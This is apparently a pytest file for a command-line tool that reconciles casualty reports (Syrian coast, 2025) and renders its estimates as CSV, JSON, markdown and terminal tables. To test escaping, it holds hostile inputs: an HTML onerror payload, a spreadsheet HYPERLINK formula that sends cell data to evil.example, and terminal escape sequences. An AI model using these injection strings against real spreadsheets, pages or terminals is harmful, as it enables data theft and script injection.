"""Rendering estimates and their audit trail: contract formats, hostile text, the range bar."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from rich.console import Console

from casualty_cli.estimates import (
    ESTIMATE_FIELDS,
    Derivation,
    Estimate,
    Evidence,
    Reconciliation,
    Scope,
    Status,
)
from casualty_cli.load import load_reports
from casualty_cli.model import Component, Outcome, ReportTable, Window
from casualty_cli.render.estimates import (
    BAR_WIDTH,
    BarScale,
    bar_scale,
    estimates_table,
    headline,
    period_text,
    range_bar,
    write_estimates,
)
from casualty_cli.render.explain import (
    explain_records,
    explain_text,
    flag_sentences,
    most_likely,
    percent_text,
    reading_text,
    write_explain_json,
)

HOSTILE_HTML = "<img src=x onerror=alert(1)>|"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP_NAMES = ("[bold red]X[/]", "[/]", "[link=https://evil.example]UN[/link]")

# The rows of examples/syrian-coast-2025.csv used below (0-based rows, 1-based lines = row + 2).
PART_ROWS = (0, 1, 2)  # SOHR 745 civilians, 125 security forces, 148 militants
TOTAL_ROW = 3  # SOHR "more than 1,000"
BANIYAS_ROW = 4  # Baniyas resident "at least 20"

COAST_TOTAL = Scope(Outcome.KILLED, (), ("Syria", "Coast"), None, date(2025, 3, 8), True)
CIVILIANS = Scope(
    Outcome.KILLED, ("civilians",), ("Syria", "Coast"), date(2025, 3, 6), date(2025, 3, 8)
)


# ----------------------------------------------------------------------------------------------
# Building results by hand


@pytest.fixture
def coast_file(examples_dir: Path) -> str:
    return str(examples_dir / "syrian-coast-2025.csv")


@pytest.fixture
def coast(coast_file: str) -> ReportTable:
    return load_reports([coast_file])


def estimate(
    rank: int,
    scope: Scope,
    numbers: tuple[int, int, int, int, int],
    *,
    flags: tuple[str, ...] = (),
    origins: tuple[str, ...] = ("SOHR",),
    evidence: tuple[Evidence, ...] = (),
    derivations: tuple[Derivation, ...] = (),
) -> Estimate:
    """An estimate from ``(low95, low, best, high, high95)``: the order they lie on the axis."""
    low95, low, best, high, high95 = numbers
    return Estimate(
        rank=rank,
        scope=scope,
        best=best,
        low=low,
        high=high,
        low95=low95,
        high95=high95,
        claimed_min=low,
        claimed_max=high,
        conservative=low,
        reports=max(1, len(evidence)),
        origins=len(origins),
        flags=flags,
        evidence=evidence,
        derivations=derivations,
        origin_names=origins,
    )


def sohr_total() -> Estimate:
    """SOHR's parts add up to 1,018, which stands in for its own "more than 1,000"."""
    parts = Derivation(
        kind="derived_sum",
        origin="SOHR",
        rows=PART_ROWS,
        kernel=(Component(1018, 1018, 0.5), Component(814, 1272, 0.5)),
        value=1018,
        arithmetic="745 + 125 + 148 = 1,018",
        status=Status.USED,
        q=0.85,
        support=0.93,
    )
    subsumed = Evidence(
        TOTAL_ROW, "SOHR", Status.SUBSUMED, 0.85, None, "SOHR's own parts add up to 1,018"
    )
    return replace(
        estimate(1, COAST_TOTAL, (760, 880, 1018, 1178, 1500), flags=("single_source",)),
        claimed_min=1001,
        claimed_max=1018,
        conservative=1001,
        reports=4,
        evidence=(subsumed,),
        derivations=(parts,),
    )


def civilians() -> Estimate:
    used = Evidence(PART_ROWS[0], "SOHR", Status.USED, 0.85, 0.97, "the only report")
    return estimate(
        2, CIVILIANS, (745, 745, 745, 1000, 1300), flags=("single_source",), evidence=(used,)
    )


@pytest.fixture
def result(coast: ReportTable) -> Reconciliation:
    notes = ("Cumulative counts run from the start of the incident.",)
    return Reconciliation((sohr_total(), civilians()), coast, notes=notes)


def hostile(coast: ReportTable, place: str, category: str = "civilians") -> Reconciliation:
    scope = replace(CIVILIANS, place=(place,), category=(category,))
    return Reconciliation((estimate(1, scope, (1, 2, 3, 4, 5)),), coast)


def render(fmt: str, result: Reconciliation, *, excel_safe: bool = True) -> str:
    stream = StringIO()
    write_estimates(result, fmt, stream, excel_safe=excel_safe, version="9.9")
    return stream.getvalue()


def table_text(result: Reconciliation, width: int = 120) -> str:
    stream = StringIO()
    estimates_table(result, Console(file=stream, width=width, color_system=None))
    return stream.getvalue()


def explain_output(result: Reconciliation, width: int = 160) -> str:
    stream = StringIO()
    explain_text(result, Console(file=stream, width=width, color_system=None))
    return stream.getvalue()


# ----------------------------------------------------------------------------------------------
# Data formats (contract.md section 2)


def test_csv_is_the_contract_exactly(result: Reconciliation) -> None:
    assert render("csv", result) == (
        "rank,outcome,category,place,period_start,period_end,best,low,high,low95,high95,"
        "claimed_min,claimed_max,conservative,reports,origins,flags\n"
        "1,killed,all,Syria/Coast,,2025-03-08,1018,880,1178,760,1500,1001,1018,1001,4,1,"
        "single_source\n"
        "2,killed,civilians,Syria/Coast,2025-03-06,2025-03-08,745,745,1000,745,1300,745,1000,"
        "745,1,1,single_source\n"
    )


def test_csv_joins_flags_with_semicolons(coast: ReportTable) -> None:
    flagged = estimate(1, CIVILIANS, (1, 2, 3, 4, 5), flags=("disputed", "wide_range"))
    rows = render("csv", Reconciliation((flagged,), coast)).splitlines()
    assert rows[1].endswith(",disputed;wide_range")


def test_tsv_has_the_same_header_and_cells(result: Reconciliation) -> None:
    lines = render("tsv", result).split("\n")
    assert lines[0].split("\t") == list(ESTIMATE_FIELDS)
    assert lines[1].split("\t")[:6] == ["1", "killed", "all", "Syria/Coast", "", "2025-03-08"]
    assert lines[-1] == ""  # LF after the last row, nothing else
    assert "\r" not in render("tsv", result)


def test_json_document_and_key_order(result: Reconciliation) -> None:
    document = json.loads(render("json", result))
    assert list(document) == ["tally_version", "estimates", "notes"]
    assert document["tally_version"] == "9.9"
    assert document["notes"] == ["Cumulative counts run from the start of the incident."]
    first = document["estimates"][0]
    assert list(first) == list(ESTIMATE_FIELDS)
    assert first["period_start"] is None
    assert first["flags"] == ["single_source"]
    assert first["best"] == 1018


def test_ndjson_has_one_object_per_estimate(result: Reconciliation) -> None:
    lines = render("ndjson", result).splitlines()
    assert len(lines) == 2
    assert [json.loads(line)["rank"] for line in lines] == [1, 2]
    assert all(list(json.loads(line)) == list(ESTIMATE_FIELDS) for line in lines)


def test_markdown_is_a_table_for_a_story(result: Reconciliation) -> None:
    text = render("markdown", result)
    lines = text.splitlines()
    assert lines[0] == (
        "| rank | scope | best estimate | 80% range | 95% range | claimed (min–max) | origins "
        "| flags |"
    )
    assert lines[2] == (
        "| 1 | killed, Syria/Coast, as of 8 Mar 2025 | 1,018 | 880–1,178 | 760–1,500 "
        "| 1,001–1,018 | 1 | one source |"
    )
    assert lines[-1] == "- Cumulative counts run from the start of the incident."


def test_markdown_escapes_a_hostile_place(coast: ReportTable) -> None:
    text = render("markdown", hostile(coast, HOSTILE_HTML))
    row = text.splitlines()[2]
    assert "<img" not in text
    assert "&#60;img src=x onerror=alert(1)&#62;&#124;" in row
    # The stray "|" must not open a new cell: as many cell borders as in the header.
    assert row.count("|") == text.splitlines()[0].count("|")


def test_csv_neutralises_formulas_but_not_numbers(coast: ReportTable) -> None:
    rows = render("csv", hostile(coast, HOSTILE_FORMULA, category="-12")).splitlines()
    cells = rows[1].split(",", 3)
    assert cells[2] == "-12"  # a number, not a formula: left alone
    assert cells[3].startswith('"\'=HYPERLINK(""http://evil.example/?""&A1')
    unsafe = render("csv", hostile(coast, HOSTILE_FORMULA), excel_safe=False)
    assert '"=HYPERLINK(' in unsafe
    # JSON is data for programs, not spreadsheets: unchanged.
    [row] = json.loads(render("json", hostile(coast, HOSTILE_FORMULA)))["estimates"]
    assert row["place"] == HOSTILE_FORMULA


def test_unknown_format_is_refused(result: Reconciliation) -> None:
    with pytest.raises(ValueError, match="yaml"):
        render("yaml", result)


# ----------------------------------------------------------------------------------------------
# Words


def test_headline_in_the_words_of_statistics_section_9() -> None:
    assert headline(sohr_total()) == (
        "Best estimate 1,018 killed in Syria/Coast as of 8 Mar 2025 (likely range 880–1,178; "
        "80%). Based on only 1 independent source (SOHR), not confirmed by any other; see flags."
    )
    several = replace(sohr_total(), flags=(), origins=2, origin_names=("SOHR", "SNHR"))
    assert headline(several).endswith("Based on 2 independent sources (SOHR, SNHR).")


@pytest.mark.parametrize(
    ("window", "words"),
    [
        (Window(date(2025, 3, 6), date(2025, 3, 8)), "6–8 Mar 2025"),
        (Window(date(2025, 2, 28), date(2025, 3, 3)), "28 Feb – 3 Mar 2025"),
        (Window(date(2024, 12, 28), date(2025, 1, 3)), "28 Dec 2024 – 3 Jan 2025"),
        (Window(date(2025, 3, 8), date(2025, 3, 8)), "8 Mar 2025"),
        (Window(None, date(2025, 3, 8), cumulative=True), "as of 8 Mar 2025"),
        (Window(date(2025, 3, 6), date(2025, 3, 8), True), "6–8 Mar 2025"),
        (Window(None, None, cumulative=True), "as of an unknown date"),
    ],
)
def test_period_in_words(window: Window, words: str) -> None:
    assert period_text(window) == words


# ----------------------------------------------------------------------------------------------
# The range bar


def test_range_bar_linear_geometry(coast: ReportTable) -> None:
    # 10 to 110 on 10 cells: each cell is 10 wide, so every number lands in a known cell.
    left = estimate(1, CIVILIANS, (10, 20, 30, 40, 50))
    right = estimate(2, CIVILIANS, (60, 70, 80, 90, 110))
    scale = bar_scale([left, right])
    assert scale == BarScale(10, 110, log=False)
    assert range_bar(left, scale, 10) == "─━●━─     "
    assert range_bar(right, scale, 10) == "     ─━●━─"


def test_range_bar_switches_to_log1p_for_wide_spreads() -> None:
    small = estimate(1, CIVILIANS, (0, 1, 2, 3, 5))
    large = estimate(2, CIVILIANS, (600, 700, 800, 900, 999))
    scale = bar_scale([small, large])
    assert scale.log
    assert scale.position(0, 10) == 0
    assert scale.position(31, 10) == 5  # log(32) / log(1000) = 0.502
    assert scale.position(999, 10) == 9
    assert range_bar(large, scale, 10) == "         ●"


def test_range_bar_of_identical_rows_sits_in_the_middle() -> None:
    flat = estimate(1, CIVILIANS, (7, 7, 7, 7, 7))
    assert range_bar(flat, bar_scale([flat]), 10) == "     ●    "


def test_table_draws_the_bars_on_one_scale(coast: ReportTable) -> None:
    left = estimate(1, CIVILIANS, (10, 20, 30, 40, 50))
    right = estimate(2, CIVILIANS, (60, 70, 80, 90, 110))
    text = table_text(Reconciliation((left, right), coast), width=200)
    scale = BarScale(10, 110, log=False)
    assert range_bar(left, scale, BAR_WIDTH) in text
    assert range_bar(right, scale, BAR_WIDTH) in text
    assert "best estimate ● · 80% range ━ · 95% range ─ · bars run from 10 to 110" in text
    assert "(log scale)" not in text


def test_table_says_when_the_scale_is_logarithmic(result: Reconciliation) -> None:
    small = estimate(3, CIVILIANS, (0, 1, 2, 3, 5))
    text = table_text(result.with_estimates((*result.estimates, small)), width=200)
    assert "range (log scale)" in text
    assert "on a log scale" in text


# ----------------------------------------------------------------------------------------------
# The table for people


def test_table_has_no_escape_codes_and_shows_the_headline(result: Reconciliation) -> None:
    text = table_text(result)
    assert "\x1b" not in text
    assert text.startswith("Best estimate 1,018 killed in Syria/Coast")
    assert "as of 8 Mar 2025" in text
    assert "880–1,178" in text
    assert "Cumulative counts run from the start of the incident." in text


def test_table_prints_markup_literally(coast: ReportTable) -> None:
    scope = replace(CIVILIANS, place=("Khan Younis [citation needed]",))
    row = estimate(1, scope, (1, 2, 3, 4, 5), origins=MARKUP_NAMES)
    text = table_text(Reconciliation((row,), coast, notes=("[/]",)), width=250)
    for name in (*MARKUP_NAMES, "Khan Younis [citation needed]"):
        assert name in text
    assert "\x1b" not in text


def test_table_escapes_control_characters(coast: ReportTable) -> None:
    text = table_text(hostile(coast, "\x1b[2J\x1b]0;pwned\x07Gaza"), width=200)
    assert "\x1b" not in text
    assert "\\x1b[2J\\x1b]0;pwned\\x07Gaza" in text


def test_table_without_estimates(coast: ReportTable) -> None:
    assert table_text(Reconciliation((), coast)).startswith("No estimate")


def test_renderers_are_deterministic(result: Reconciliation) -> None:
    for fmt in ("csv", "json", "markdown"):
        assert render(fmt, result) == render(fmt, result)
    assert table_text(result) == table_text(result)
    assert explain_output(result) == explain_output(result)


# ----------------------------------------------------------------------------------------------
# explain


def test_reading_of_a_phrase(coast: ReportTable) -> None:
    assert reading_text(coast.count[TOTAL_ROW]) == (
        "more than 1,000 → 1,001–2,002, most likely 1,001–1,102"
    )
    assert reading_text(coast.count[1]) == "125 → 100–156, most likely 125"
    assert most_likely(coast.count[BANIYAS_ROW].kernel) == Component(20, 22, 0.4)


def test_percentages_never_round_to_certainty() -> None:
    assert [percent_text(p) for p in (None, 0.0, 0.001, 0.5, 0.999, 1.0)] == [
        "—",
        "0%",
        "<1%",
        "50%",
        ">99%",
        "100%",
    ]


def test_explain_records_carry_the_audit_trail(result: Reconciliation, coast_file: str) -> None:
    record = explain_records(result)[0]
    assert list(record)[: len(ESTIMATE_FIELDS)] == list(ESTIMATE_FIELDS)
    assert list(record)[len(ESTIMATE_FIELDS) :] == [
        "scope",
        "headline",
        "evidence",
        "derivations",
        "received",
        "flag_sentences",
    ]
    assert record["scope"] == "killed, all, Syria/Coast, as of 2025-03-08"
    [evidence] = record["evidence"]
    assert evidence == {
        "file": coast_file,
        "line": 5,
        "source": "SOHR",
        "origin": "SOHR",
        "via": "AP",
        "grade": "B",
        "q": 0.85,
        "phrase": "more than 1,000",
        "read_as": "more than 1,000 → 1,001–2,002, most likely 1,001–1,102",
        "kind": "more_than",
        "kernel": [[1001, 1102, 0.4], [1001, 1502, 0.45], [1001, 2002, 0.15]],
        "published": "2025-03-08",
        "window": {"start": None, "end": "2025-03-08", "cumulative": True},
        "status": "subsumed",
        "support": None,
        "reason": "SOHR's own parts add up to 1,018",
    }
    [derivation] = record["derivations"]
    assert derivation["reports"] == [f"{coast_file}:{line}" for line in (2, 3, 4)]
    assert derivation["status"] == "used"


def test_explain_json_document(result: Reconciliation) -> None:
    stream = StringIO()
    write_explain_json(result, stream, version="9.9")
    text = stream.getvalue()
    assert "880–1,178" in text  # ensure_ascii=False: the dash as written
    document = json.loads(text)
    assert list(document) == ["tally_version", "explanations", "notes"]
    assert [e["rank"] for e in document["explanations"]] == [1, 2]


def test_explain_json_refuses_nan(result: Reconciliation) -> None:
    broken = Evidence(PART_ROWS[0], "SOHR", Status.USED, 0.85, float("nan"), "")
    bad = result.with_estimates((replace(civilians(), evidence=(broken,)),))
    with pytest.raises(ValueError, match="JSON"):
        write_explain_json(bad, StringIO(), version="9.9")


def test_explain_text_tells_the_story(result: Reconciliation) -> None:
    text = explain_output(result, width=250)  # wide enough that no cell wraps
    assert "\x1b" not in text
    assert "there is an 80% chance the true count for this place and period lies" in text
    assert "SOHR parts: 745 + 125 + 148 = 1,018, used instead of SOHR's 'more than 1,000'." in text
    assert "All the evidence comes from one origin" in text
    assert "more than 1,000 → 1,001–2,002, most likely 1,001–1,102" in text
    assert "B → 0.85" in text
    assert "97%" in text


def test_flags_are_sentences_by_severity_naming_reports(coast: ReportTable) -> None:
    doubtful = Evidence(BANIYAS_ROW, "Baniyas resident", Status.DISCOUNTED, 0.5, 0.01, "")
    row = estimate(
        1,
        CIVILIANS,
        (1, 2, 3, 4, 5),
        flags=("single_source", "mystery_flag", "discounted"),
        evidence=(doubtful,),
    )
    sentences = flag_sentences(row, coast)
    assert [flag for flag, _ in sentences] == ["discounted", "single_source", "mystery_flag"]
    assert sentences[0][1].endswith(f"Reports: Baniyas resident ({coast.location(BANIYAS_ROW)}).")
    assert sentences[1][1].endswith("Origin: SOHR.")


def test_explain_text_prints_markup_and_controls_literally(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    path.write_text(
        "source,via,published,place,count\n"
        '"[bold red]X[/]",[/],2025-03-08,"Khan Younis [citation needed]",12\n',
        encoding="utf-8",
    )
    reports = load_reports([path])
    used = Evidence(0, "[bold red]X[/]", Status.USED, 0.5, 0.9, "kept [b]")
    scope = replace(COAST_TOTAL, place=("Khan Younis [citation needed]",))
    row = estimate(1, scope, (10, 11, 12, 13, 15), origins=("[bold red]X[/]",), evidence=(used,))
    text = explain_output(Reconciliation((row,), reports, notes=("\x1b]0;pwned\x07",)), 250)
    for literal in ("[bold red]X[/] / [/]", "Khan Younis [citation needed]", "kept [b]"):
        assert literal in text
    assert "\x1b" not in text
    assert "\\x1b]0;pwned\\x07" in text
